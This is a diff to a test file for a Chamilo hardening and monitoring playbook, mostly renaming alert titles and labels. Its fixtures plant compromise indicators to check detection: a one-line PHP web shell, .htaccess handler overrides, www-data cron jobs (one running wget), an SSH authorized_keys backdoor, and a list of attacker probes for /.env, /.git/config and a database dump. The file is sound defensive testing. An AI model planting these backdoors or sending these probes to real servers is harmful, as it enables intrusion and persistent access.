@@ -184,14 +184,14 @@ def test_accounts_are_listed_and_only_named_ones_are_switched_off(monitored: Hos
     monitored.run([*console, "testbed:second-factor", "second.admin"])
     sql(monitored, f"{PROMOTE}'never.used'")
     daily(monitored)
-    (told,) = (hook for hook in sink.hooks() if hook["title"] == "An administrator nobody expects at campus.test")
+    (told,) = (hook for hook in sink.hooks() if hook["title"] == "An unexpected administrator at campus.test")
     assert told["text"].startswith("ADMINISTRATORS NOBODY EXPECTS: never.used\n")
     assert "Locked by guessed passwords: 1 (student07)" in told["text"].splitlines()
     assert "Administrators without a second factor: 2 (admin, never.used)" in told["text"].splitlines()
     # Another one on the same day.
     sql(monitored, f"{PROMOTE}'student02'")
     daily(monitored)
-    assert [hook["text"].splitlines()[0] for hook in sink.hooks() if "nobody expects" in hook["title"]] == [
+    assert [hook["text"].splitlines()[0] for hook in sink.hooks() if "unexpected administrator" in hook["title"]] == [
         "ADMINISTRATORS NOBODY EXPECTS: never.used",
         "ADMINISTRATORS NOBODY EXPECTS: never.used, student02",
     ]
@@ -258,8 +258,8 @@ PLANTED = {
     "PHP where only data belongs": f"echo '<?php' >{ROOT}/var/upload/x.php",
     "a file that makes data run": f"echo 'AddHandler application/x-httpd-php .jpg' >{ROOT}/var/upload/.htaccess",
     "PHP among assets": f"echo '<?php' >{ROOT}/public/img/x.php",
-    "a file that changes how a folder is run": f"echo 'SetHandler php' >{ROOT}/public/img/.htaccess",
-    "what looks like a web shell": f"echo '<?php eval($_POST[1]);' >{ROOT}/public/main/forum.php",
+    "a file that changes how a directory is run": f"echo 'SetHandler php' >{ROOT}/public/img/.htaccess",
+    "a suspected web shell": f"echo '<?php eval($_POST[1]);' >{ROOT}/public/main/forum.php",
     "a script beside index.php": f"echo '<?php phpversion();' >{ROOT}/public/help.php",
     "a cron job of the web user": "echo '* * * * * php /srv/x # bin/console' | crontab -u www-data -",
     "a cron job that runs as the web user": "echo '* * * * * www-data wget http://x' >/etc/cron.d/x",
@@ -267,23 +267,23 @@ PLANTED = {
         "install -o www-data /dev/null /srv/x.php; echo '* * * * * root php -q /srv/x.php' >/etc/cron.d/y"
     ),
     "a file of www-data's own that its programs run": "echo id >/var/www/.bashrc; chown www-data /var/www/.bashrc",
-    "a way back in for www-data": "mkdir -p /var/www/.ssh && echo ssh-rsa >/var/www/.ssh/authorized_keys",
+    "persistent access for www-data": "mkdir -p /var/www/.ssh && echo ssh-rsa >/var/www/.ssh/authorized_keys",
     "an at job of the web user": "install -D -o www-data /dev/null /var/spool/cron/atjobs/a0000101c0de00",
     "a unit of systemd": "printf '[Service]\\nExecStart=/tmp/x\\n' >/etc/systemd/system/x.service",
     "a process of the web user": "runuser -u www-data -- setsid -f php -r 'sleep(600);' >/dev/null 2>&1",
     "pupils with an administrator's rights": f"{PROMOTE}'student01'",
     "administrators made in the last 30 days": "UPDATE user SET created_at = NOW() WHERE username = 'second.admin'",
 }
-# What answered a stranger, by the access log.
+# What answered a visitor, by the access log.
 ASKED = {
-    "a script in an upload folder of bigUpload": "GET /main/inc/lib/javascript/bigupload/files/x.php",
+    "a script in an upload directory of bigUpload": "GET /main/inc/lib/javascript/bigupload/files/x.php",
     "an upload to bigUpload": "POST /main/inc/lib/javascript/bigupload/inc/bigUpload.php",
     "the old web services": "POST /main/webservices/additional_webservices.php",
     "the PENS plugin with a package to fetch": "GET /plugin/Pens/pens.php?package-url=http://x/y.php",
     "a PHP file among assets": "GET /img/x.php",
     "a PHP file of a rare kind": "GET /x.phtml",
     "the environment file": "GET /.env",
-    "the Git folder": "GET /.git/config",
+    "the Git directory": "GET /.git/config",
     "a database dump": "GET /backup/chamilo.sql.gz",
     "a template's source": "GET /main/template/default/layout/page.tpl",
     "the installer, after the installation": "POST /main/install/index.php",
@@ -421,7 +421,7 @@ def test_where_nobody_is_named_it_is_red_and_no_play_fails(fresh: Host, playbook
     assert harden(playbook, fresh, tmp_path, **nobody) == 0
     status = audited(playbook, fresh)
     assert {status[f"monitoring_{name}"][0] for name in ("app_log", "resources", "auth", "delivery")} == {"fail"}
-    assert "Nobody is told: set chamilo_alert_mail" in status["monitoring_delivery"][1]
+    assert "There is no recipient of alerts: set chamilo_alert_mail" in status["monitoring_delivery"][1]
     refused = fresh.run(["chamilo-hardening", "alert", "--test"], check=False)
     assert refused.returncode == 1 and "Nobody is configured" in refused.stderr
     others = ("--tags", "https,brute_force,backups,monitoring")
@@ -468,7 +468,7 @@ HARM = {
     "Chamilo at campus.test made errors",
     "A disk of campus.test is nearly full",
     "Many failed logins at campus.test",
-    "An administrator nobody expects at campus.test",
+    "An unexpected administrator at campus.test",
     "Files of campus.test were changed",
     "Signs of a break-in at campus.test",
 }
